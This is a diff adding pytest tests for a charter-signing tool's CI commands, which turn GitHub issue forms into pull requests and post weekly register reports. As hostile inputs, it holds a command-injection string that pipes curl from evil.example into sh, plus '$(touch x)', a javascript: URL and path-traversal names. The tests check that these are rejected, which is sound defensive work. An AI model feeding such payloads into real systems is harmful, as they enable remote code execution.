@@ -1,0 +1,254 @@
+"""`charter ci sign-up`, `weekly`, `release`: what comes of a form, of a Monday, of a wish for a version."""
+
+from __future__ import annotations
+
+import re
+import shutil
+
+import pytest
+
+from builders import FIRST, make_signatory, release_draft, write_charter, write_note, write_signatory
+from charterpress.cli import main
+from commands import commit_all, edit_file, git
+from fake_github import BOT
+from loops import in_thread
+from recorded import changed, payload
+from tiers import every_fourth
+
+ISSUE = "issues.opened"
+SHELL = '"; curl evil.example | sh #'
+
+
+class Signing:
+    """A checkout of the default branch, as the workflow has it, and forms that come in."""
+
+    def __init__(self, released, folder, capsys, github):
+        self.folder, self.capsys, self.github = folder / "repo", capsys, github
+        shutil.copytree(released, self.folder)
+        self.base = git("rev-parse", "HEAD", folder=self.folder)
+        self.origin = folder / "origin"
+        git("clone", "--quiet", "--bare", str(released), str(self.origin))
+        git("remote", "add", "origin", str(self.origin), folder=self.folder)
+
+    def answer(self, body=None, **values):
+        """The answer to a form, in a checkout of its own; '' for none. Nothing but the branch changes."""
+        git("checkout", "--quiet", "--force", "--detach", self.base, folder=self.folder)
+        event = self.folder.parent / "event.json"
+        event.write_bytes(changed(ISSUE, **({} if body is None else {"issue__body": body}), **values))
+        assert main(["ci", "sign-up", "--event", str(event)]) == 0
+        assert self.capsys.readouterr().err == ""
+        said = [each for place, each in self.github.told if place == "POST issues/31/comments"]
+        return said[-1]["body"].partition("<!-- charter: sign-up -->\n")[2] if said else ""
+
+    @property
+    def proposed(self):
+        """The files that each branch at the host adds or changes."""
+        lines = git("for-each-ref", "--format=%(refname:short)", "refs/heads/sign-up", folder=self.origin)
+        return {
+            name: git("diff", "--name-only", self.base, name, folder=self.origin).splitlines()
+            for name in lines.splitlines()
+        }
+
+
+@pytest.fixture
+def signing(released, tmp_path, monkeypatch, capsys, github):
+    made = Signing(released, tmp_path, capsys, github)
+    monkeypatch.chdir(made.folder)
+    return made
+
+
+FORM = payload(ISSUE)["issue"]["body"]
+
+
+def answer(label, value):
+    """The recorded form with another answer."""
+    return re.sub(rf"(?<=### {label}\n\n).*", lambda _: value, FORM)
+
+
+QUAY = "sign-up/31-quay-club"
+QUAY_FILES = {QUAY: ["charter/signatories/quay-club.yml"]}
+
+
+def pull(number, branch, owner="harbour-partners"):
+    """A pull request, as the host lists it."""
+    head = {"ref": branch, "label": f"{owner}:{branch}", "repo": {"full_name": f"{owner}/charter"}}
+    return {"number": number, "head": head}
+
+
+def test_a_form_becomes_a_proposal_with_one_new_file_and_its_status(signing):
+    said = signing.answer(FORM.replace("\n", "\r\n"))
+    assert said.startswith("Thank you for signing! An entry for **Quay Club** was made of your form:\n")
+    assert signing.proposed == QUAY_FILES
+    head = git("rev-parse", QUAY, folder=signing.origin)
+    told = signing.github.told
+    assert [place for place, _ in told] == [
+        "POST pulls",
+        *(f"POST statuses/{head}" for _ in range(2)),
+        "POST issues/77/comments",
+        "POST issues/31/comments",
+    ]
+    assert told[0][1] == {
+        "title": "Sign-up: issue 31",
+        "head": QUAY,
+        "base": "main",
+        "body": f"{said}\nCloses #31.\n",
+    }
+    assert told[2][1]["state"] == "success"
+    assert "1 organisation would join the register: Quay Club." in told[3][1]["body"]
+
+
+def test_words_of_strangers_reach_no_shell_and_no_title(signing):
+    said = signing.answer(f"$(touch x)\n{SHELL}", issue__title=SHELL)
+    assert said.startswith("Thank you for writing. No entry could be made of this yet:")
+    assert (signing.proposed, (signing.folder / "x").exists()) == ({}, False)
+
+
+def test_a_form_is_known_by_its_label_or_its_questions(signing):
+    """It may have been sent before the label was made; and what is neither is somebody's own issue."""
+    assert signing.answer("Hello", issue__labels=[]) == ""
+    assert signing.github.told == []
+    assert signing.answer(issue__state="closed") == ""
+    assert signing.github.asked == []
+    for label in ("sign-up", "question"):  # any: its run takes the place of one that waits for an edited form
+        assert signing.answer(action="labeled", label={"name": label}).startswith("Thank you")
+        signing.github.holds()
+    assert signing.answer(issue__labels=[]).startswith("Thank you")
+    assert signing.github.told[0] == ("POST issues/31/labels", {"labels": ["sign-up"]})
+
+
+def test_an_edited_form_ends_the_approvals_and_an_unchanged_one_does_not(signing):
+    signing.answer()
+    reviews = [
+        {"id": 1, "state": "APPROVED"},
+        {"id": 2, "state": "COMMENTED"},
+        {"id": 3, "state": "APPROVED"},
+    ]
+    lists = {"branches": [QUAY], "pulls": [pull(12, QUAY)], "pulls__12__reviews": reviews}
+    signing.github.holds(**lists)
+    signing.answer(action="edited")
+    assert [place for place, _ in signing.github.told] == ["POST issues/31/comments"]
+    signing.github.holds(**lists)
+    signing.answer(answer("Role that signs", "Treasurer"), action="edited")
+    places = [place for place, _ in signing.github.told]
+    assert places[:3] == [*(f"PUT pulls/12/reviews/{at}/dismissals" for at in (1, 3)), "PATCH pulls/12"]
+    assert "role: Treasurer" in git(
+        "show", f"{QUAY}:charter/signatories/quay-club.yml", folder=signing.origin
+    )
+
+
+def test_another_organisation_is_another_proposal(signing):
+    """What was approved under the first name is closed, and not replaced."""
+    signing.answer()
+    others = [QUAY, "sign-up/310-tide-club"]
+    signing.github.holds(branches=others, pulls=[pull(12, QUAY), pull(13, others[1])])
+    signing.answer(answer("Name of your organisation", "Pier Club"), action="edited")
+    assert [place for place, _ in signing.github.told][:4] == [
+        "POST issues/12/comments",
+        "PATCH pulls/12",
+        f"DELETE git/refs/heads/{QUAY}",
+        "POST pulls",
+    ]
+    assert signing.github.body("POST pulls")["head"] == "sign-up/31-pier-club"
+    assert signing.proposed["sign-up/31-pier-club"] == ["charter/signatories/pier-club.yml"]
+
+
+def test_a_branch_of_the_same_name_in_a_fork_is_not_ours(signing):
+    signing.answer()
+    signing.github.holds(branches=[QUAY], pulls=[pull(66, QUAY, "eve")])
+    signing.answer(answer("Role that signs", "Treasurer"), action="edited")
+    assert signing.github.body("POST pulls")["head"] == QUAY
+    assert not any("66" in place for _, place, _ in signing.github.asked)
+
+
+def test_a_form_that_no_longer_holds_takes_its_proposal_back(signing):
+    signing.answer()
+    signing.github.holds(branches=[QUAY], pulls=[pull(12, QUAY)])
+    said = signing.answer(answer("Your website", "_No response_"), action="edited")
+    assert "No entry for **Quay Club** could be made of it yet." in said
+    assert [place for place, _ in signing.github.told][:3] == [
+        "POST issues/12/comments",
+        "PATCH pulls/12",
+        f"DELETE git/refs/heads/{QUAY}",
+    ]
+
+
+def test_a_path_for_a_name_leads_nowhere(signing):
+    signing.answer(answer("Name of your organisation", "../../.github/workflows/x"))
+    assert signing.proposed == {
+        "sign-up/31-github-workflows-x": ["charter/signatories/github-workflows-x.yml"]
+    }
+
+
+BAD_FORMS = {
+    "empty": ("", "There is nothing in it"),
+    "another text": ("Hello @everyone, closes #1", "None of the questions stands in it"),
+    "no name": (answer("Name of your organisation", "_No response_"), "Name of your organisation"),
+    "a kind of their own": (answer("Kind of organisation", "pirates"), "Kind of organisation"),
+    "a site that runs": (answer("Your website", "javascript:alert(1)"), "Your website"),
+    "a site with a password": (answer("Your website", "https://a:b@x.example/"), "Your website"),
+    "a version that nobody made": (answer("Version you sign", "9.9.9"), "Version you sign"),
+    "a path for a version": (answer("Version you sign", "../1.0.0"), "Version you sign"),
+    "a day that is none": (answer("Date it was agreed", "2024-02-31"), "Date it was"),
+    "a day to come": (answer("Date it was agreed", "2999-01-01"), "Date it was"),
+    "two days in one": (answer("Date it was agreed", "03/04/2026"), "Date it was"),
+    "a letter's address": (answer("Role that signs", "chair@quay-club.example"), "Role that signs"),
+    "somebody else": (answer("Name of your organisation", "Mole club"), "Name of your organisation"),
+    "one question twice": (FORM + "\n### Your website\n\nhttps://evil.example/\n", "Your website"),
+    "a question of their own": (FORM + "\n### withdrawn\n\n2026-01-01\n", "withdrawn"),
+    "other words in yaml": (
+        answer("In your own words", "x\n\nwithdrawn: {date: 2026-01-01}\x07"),
+        "own words",
+    ),
+    "a name that hides": (answer("Name of your organisation", "Quay\u202eClub"), "Name of your organisation"),
+    "a long name": (answer("Name of your organisation", "x" * 5000), "Name of your organisation"),
+}
+
+
+@pytest.mark.parametrize("case", every_fourth(BAD_FORMS))
+def test_a_hostile_form_is_answered_by_name_and_proposes_nothing(signing, case):
+    body, label = BAD_FORMS[case]
+    said = signing.answer(body)
+    assert [place for place, _ in signing.github.told] == ["POST issues/31/comments"]
+    assert signing.proposed == {}
+    assert label in said
+    assert not re.search(r"(?<!\\)://(?!quay|x)|@\w|(?<!\w)#\d|<img|<script", said)
+
+
+def test_the_weekly_issue_tells_how_the_register_stands(tmp_path, monkeypatch, github):
+    root = write_charter(tmp_path)
+    release_draft(root, first=True)
+    write_signatory(root, make_signatory("quay-club"))
+    write_signatory(root, make_signatory("pirates", kind="pirates"))
+    monkeypatch.setenv("SITE_URL", "https://charter.org/")
+    assert in_thread(lambda: main(["--source", str(root), "ci", "weekly"])) == 0
+    said = github.body("POST issues")
+    assert said["title"] == "The register this week"
+    assert said["body"].startswith(
+        "<!-- charter: this week -->\n## The register\n\n- 1: signed the current version\n"
+    )
+    assert "pirates" in said["body"].split("## Left out of the register")[1]
+    assert "## Their pages\n\nNo organisation named a page to ask for.\n" in said["body"]
+    ours = {"id": 5, "number": 3, "user": BOT, "body": "<!-- charter: this week -->\nx"}
+    github.holds(issues=[{**ours, "number": 2, "user": {"login": "eve", "type": "User"}}, ours])
+    assert in_thread(lambda: main(["--source", str(root), "ci", "weekly"])) == 0
+    assert [place for place, _ in github.told] == ["PATCH issues/3"]
+
+
+def test_a_version_is_proposed_with_its_status(signing, tmp_path, capsys):
+    event = tmp_path / "event.json"
+    edit_file(signing.folder / "charter" / FIRST, "every day.", "every hour.")
+    write_note(signing.folder / "charter", "moorings-first")
+    commit_all(signing.folder)
+    event.write_bytes(changed("workflow_dispatch", inputs__date="2025-03-01"))
+    assert main(["ci", "release", "--event", str(event)]) == 0
+    assert "Released version 2.0.0" in capsys.readouterr().out
+    told = dict(signing.github.told)
+    assert told["POST pulls"]["head"] == "release/2.0.0"
+    head = git("rev-parse", "release/2.0.0", folder=signing.origin)
+    assert told[f"POST statuses/{head}"]["state"] == "success"
+    assert "It makes version 2.0.0" in told["POST issues/77/comments"]["body"]
+    for values in ({"inputs__kind": SHELL}, {"inputs__date": SHELL}):
+        signing.github.holds()
+        event.write_bytes(changed("workflow_dispatch", **values))
+        assert main(["ci", "release", "--event", str(event)]) == 2
+        assert signing.github.told == []
